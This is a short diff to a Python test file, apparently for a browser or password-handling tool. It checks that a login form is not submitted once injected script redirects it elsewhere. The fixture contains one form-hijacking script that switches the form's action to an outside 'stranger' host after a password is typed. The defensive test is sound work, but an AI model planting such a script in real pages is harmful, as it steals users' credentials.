@@ -131,7 +131,8 @@ def test_a_form_that_is_turned_around_later_is_not_pressed(
 ) -> None:
     """By a script, after the password was typed."""
     own.pages["/page"] = login(
-        after=f"<script>onchange = () => document.forms[0].action = '{stranger.url('/x')}'</script>"
+        after="<script>onchange = ({ target }) => { if (target.type === 'password')"
+        f" document.forms[0].action = '{stranger.url('/x')}' }}</script>"
     )
     person.open(own.url("/page"))
     with pytest.raises(ElsewhereError, match="「Login」を押すと入力が送られるところ"):
